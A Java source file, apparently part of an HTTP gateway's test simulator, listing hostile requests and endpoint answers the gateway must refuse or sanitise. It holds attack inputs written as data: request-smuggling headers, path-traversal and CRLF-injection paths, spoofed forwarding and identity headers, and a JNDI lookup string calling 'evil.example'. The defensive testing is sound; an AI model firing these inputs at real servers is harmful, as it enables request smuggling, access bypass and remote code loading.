package dev.ponticello.simulation;

import dev.ponticello.outcome.FailureKind;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/**
 * What clients and endpoints do that broke other gateways, each with its number in the list of hostile tests. A test looks whether each of them has happened, and was answered as it must be.
 *
 * <p>In the texts {@code <id>} stands for the number of the exchange.
 */
enum Hostile {
    // ---- heads that must be refused, and behind which the connection ends
    ROW_1_LENGTH_AND_CHUNKED(FailureKind.REQUEST_MALFORMED,
            post("Content-Length: 5\r\nTransfer-Encoding: chunked"),
            post("Transfer-Encoding: chunked\r\nContent-Length: 0")),
    ROW_2_CHUNKED_IN_1_0(FailureKind.REQUEST_MALFORMED,
            "POST /u0/none HTTP/1.0\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
            "POST /u0/none HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n"),
    ROW_3_LENGTHS(FailureKind.REQUEST_MALFORMED, post("Content-Length: 1\r\nContent-Length: 2"),
            post("Content-Length: 5\r\nContent-Length: 5"), post("Content-Length: 5, 5"), post("Content-Length: +5"),
            post("Content-Length: 0x5"), post("Content-Length: 9223372036854775808"), post("Content-Length: -1")),
    ROW_4_ENCODINGS(FailureKind.REQUEST_MALFORMED, post("Transfer-Encoding : chunked"),
            post("Transfer-Encoding: \u000bchunked"), post("Transfer-Encoding: xchunked"),
            post("Transfer-Encoding: chunked, identity"),
            post("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked")),
    ROW_6_BEFORE_THE_LINE(FailureKind.REQUEST_MALFORMED, "\u0000" + get("Host: a"), "\u0001" + get("Host: a"),
            "\u007f" + get("Host: a"), " " + get("Host: a")),
    ROW_7_FIELDS(FailureKind.REQUEST_MALFORMED, get("Host: a\r\nno colon"), get("Host: a\r\n: x"),
            get("Host : a"), get("Host: a\r\nX: a\r\n b"), get("Host: a\r\nX: a\rb"), get("Host: a\r\nX: a\u0000b"),
            get("Host: a\r\nX: a\u0001b"), get("Host: a\r\nX\u00e9: a"),
            "GET /u0/none HTTP/1.1\nHost: a\n\n"),
    ROW_17_EXPECTATION(FailureKind.EXPECTATION_UNKNOWN, get("Host: a\r\nExpect: x")),
    ROW_18_HOSTS(FailureKind.REQUEST_MALFORMED, get("Host: a\r\nHost: b"), "GET /u0/none HTTP/1.1\r\n\r\n",
            get("Host: a:b:c"), "GET http://a/u0/none HTTP/1.1\r\nHost: b\r\n\r\n",
            "GET http://u@a/u0/none HTTP/1.1\r\nHost: a\r\n\r\n"),
    NO_VERSION(FailureKind.VERSION_UNSUPPORTED, "GET /u0/none HTTP/9.1\r\nHost: a\r\n\r\n"),
    NO_HTTP(FailureKind.REQUEST_MALFORMED, "GET  /u0/none HTTP/1.1\r\nHost: a\r\n\r\n",
            "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003\r\n\r\n"),
    ROW_16_LINE_ENDS_IN_PATHS(FailureKind.PATH_REFUSED, path("/moved/%0d%0aSet-Cookie:%20a=b"),
            path("/rewritten/u0/%0D%0AX-Evil:%201"), path("/moved/%0a")),
    ROW_38_PATHS(FailureKind.PATH_REFUSED, path("/guarded%2Fu0/none"), path("/fixed/..%2fguarded/u0/none"),
            path("/fixed/%2e%2e/guarded/u0/none"), path("/u0/../guarded/u0/none"), path("/guarded;x/u0/none"),
            path("/u0/none%00"), path("/fixed\\..\\guarded"), path("/fixed/%5c..%5cguarded"),
            path("/fixed/%252e%252e/guarded/u0/none"), path("/u0/%c0%afnone")),
    // ---- what is no chunk, in the middle of a body; nothing stands for an end that is missing
    ROW_5_CHUNKS(Part.CHUNK, FailureKind.REQUEST_BODY_MALFORMED, "5\nhello\r\n", "1;a\nx\r\n", "1;a=\"\r\n\"\r\nx\r\n",
            "0x1\r\nx\r\n", "FFFFFFFFFFFFFFFFF\r\n", "-1\r\nx\r\n", "zz\r\n", "\r\n\r\n", ""),
    // ---- requests that are served, of which endpoints must not see all
    ROW_8_UPGRADE(Part.FIELDS, "Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13"),
    ROW_9_H2C(Part.FIELDS, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__"),
    ROW_10_CONNECTION_NAMES(Part.FIELDS, "Connection: x-forwarded-for, x-user, via, x-config, forwarded"),
    ROW_40_FORWARDING_NAMES(Part.FIELDS, """
            X_Forwarded_Proto: https\r
            X-Forwarded-Proto: https\r
            X-Forwarded-Prefix: /evil\r
            X-Forwarded-Host: evil.example\r
            Forwarded: for=203.0.113.2;host=evil.example\r
            X-Real-IP: 203.0.113.1\r
            X-Original-URL: /guarded/u0\r
            X-Rewrite-URL: /guarded/u0\r
            X-HTTP-Method-Override: DELETE""", "X.Forwarded.For: 203.0.113.1\r\nx_real_ip: 203.0.113.1"),
    ROW_41_FORWARDED_FOR(Part.FIELDS, "X-Forwarded-For: " + "203.0.113.1, ".repeat(50) + "203.0.113.2",
            "X-Forwarded-For: fe80::1%eth0, 203.0.113.2", "X-Forwarded-For: rubbish\r\nX-Forwarded-For: 203.0.113.2",
            "X-Forwarded-For: 203.0.113.1, 203.0.113.2, 192.0.2.1"),
    ROW_42_IDENTITY(Part.FIELDS, "X-User: admin\r\nx-user: root\r\nX_User: admin\r\nX.User: admin",
            "X-Config: 99\r\nx_config: 99"),
    ROW_43_TWO_LINES(Part.FIELDS, "X-Key: a\r\nX-Key: b", "X-Key: a,b", "X-Key: b\r\nX-Key: a"),
    ROW_46_ORIGINS(Part.FIELDS, "Origin: null", "Origin: https://app.example.com.evil.example",
            "Origin: https://evil-app.example.com", "Origin: https://appxexample.com",
            "Origin: https://app.example.com\r\nOrigin: https://evil.example", "Origin: https://app.example.com"),
    ROW_53_KEYS(Part.FIELDS, "X-Key: key-<id>", "X-Key: " + "k".repeat(4_000) + "<id>", "X-Key:"),
    ROW_61_COOKIE(Part.FIELDS, "Cookie: session=secret"),
    ROW_65_LOG(Part.FIELDS, "User-Agent: ${jndi:ldap://evil.example/}" + "\"},{\"a\":\"".repeat(400)),
    ROW_19_TRAILERS(Part.TRAILERS, """
            Content-Length: 7\r
            Authorization: Bearer x\r
            Host: evil.example\r
            Transfer-Encoding: chunked\r
            X-User: admin\r
            """),
    // ---- other spellings of a path, which endpoints see in the canonical one
    ROW_38_SPELLINGS(Part.SPELLING, "/./x/", "//x/", "/%78/", "/x/./", "http://gateway.example"),
    // ---- tokens that let nobody in
    ROW_47_TOKENS(Part.TOKEN, Tokens.FORGED),
    ROW_48_TOKENS(Part.TOKEN, Tokens.ODD),
    ROW_48B_TOKENS(Part.TOKEN, Tokens.LOOSE),
    // ---- answers of endpoints
    ROW_20_NO_ANSWERS(Part.ANSWER, FailureKind.RESPONSE_MALFORMED, "HTTP/1.1 20 OK\r\n\r\n",
            "HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
            "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n",
            "HTTP/1.1 200 OK\nContent-Length: 0\n\n", "220 smtp.example ESMTP\r\n\r\n",
            "HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n",
            "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\n\r\n", "HTTP/1.1 200 OK\r\nX y: z\r\n\r\n",
            "HTTP/1.1 200 OK\r\nX: a\rSet-Cookie: a=b\r\n\r\n", "HTTP/1.1 200 OK\r\nX: a\nSet-Cookie: a=b\r\n\r\n",
            "HTTP/1.1 200 OK\r\nX: a\u0000\r\n\r\n"),
    ROW_20_NO_CHUNKS(Part.ANSWER_CHUNK, FailureKind.RESPONSE_BODY_MALFORMED, "x\r\n", "-5\r\n", "0\n\n", "5\nhello\r\n",
            "1;a=\"\r\n\"\r\nx\r\n", "FFFFFFFFFFFFFFFFF\r\n"),
    // ---- what comes about by the plans and faults of both sides
    ROW_8_PIPELINED_BEHIND_UPGRADE(Part.EVENT),
    ROW_11_INTERIM_WHILE_PIPELINING(Part.EVENT),
    ROW_11_INTERIM_FOR_HEAD(Part.EVENT),
    ROW_12_EARLY_ANSWER(Part.EVENT),
    ROW_14_BODY_LEFT_UNREAD(Part.EVENT),
    ROW_17_EXPECTATION_REFUSED(Part.EVENT),
    ROW_20_BODY_BEHIND_204(Part.EVENT),
    ROW_36_SLOW_HEAD(Part.EVENT),
    ROW_36_SLOW_BODY(Part.EVENT),
    ROW_36_SLOW_READER(Part.EVENT),
    ROW_39_REWRITTEN(Part.EVENT),
    ROW_41_TRUSTED_PROXY(Part.EVENT),
    ROW_51_POLICY_THROWS(Part.EVENT),
    ROW_51_POLICY_TOO_LATE(Part.EVENT),
    ROW_53_IPV6_ROTATION(Part.EVENT),
    ROW_57_ABORT_BEFORE_ANSWER(Part.EVENT),
    ROW_57_ABORT_IN_ANSWER(Part.EVENT),
    ROW_57_BACK_PRESSURE(Part.EVENT),
    ROW_61_SET_COOKIE(Part.EVENT),
    ROW_63_CONFIG_REFUSED(Part.EVENT);

    /** Of what it takes the place, or to what it is added. */
    enum Part {
        HEAD,
        CHUNK,
        FIELDS,
        TRAILERS,
        SPELLING,
        TOKEN,
        ANSWER,
        ANSWER_CHUNK,
        EVENT
    }

    private static final Map<Part, List<Hostile>> OF_PARTS = Stream.of(values())
            .collect(Collectors.groupingBy(Hostile::part));

    private final Part part;
    private final @Nullable FailureKind kind;
    @SuppressWarnings("ImmutableEnumChecker") // List.of
    private final List<String> texts;

    Hostile(FailureKind kind, String... texts) {
        this(Part.HEAD, kind, texts);
    }

    Hostile(Part part, String... texts) {
        this(part, null, texts);
    }

    Hostile(Part part, @Nullable FailureKind kind, String... texts) {
        this.part = part;
        this.kind = kind;
        this.texts = List.of(texts);
    }

    private static String get(String fields) {
        return "GET /u0/none HTTP/1.1\r\n" + fields + "\r\n\r\n";
    }

    private static String post(String fields) {
        return "POST /u0/none HTTP/1.1\r\nHost: a\r\n" + fields + "\r\n\r\n";
    }

    private static String path(String path) {
        return "GET " + path + " HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
    }

    Part part() {
        return part;
    }

    /** What it must be refused as; null where that depends, or where nothing is refused. */
    @Nullable
    FailureKind kind() {
        return kind;
    }

    /** One of its texts, for one exchange. */
    record Act(Hostile what, String text) {
        @Override
        public String toString() {
            return what.name();
        }
    }

    /** Something that takes this part. */
    static Act any(Part part, Dice dice, int id) {
        List<Hostile> all = Objects.requireNonNull(OF_PARTS.get(part));
        Hostile what = all.get(dice.below(all.size()));
        return new Act(what, what.texts.get(dice.below(what.texts.size())).replace("<id>", Integer.toString(id)));
    }
}
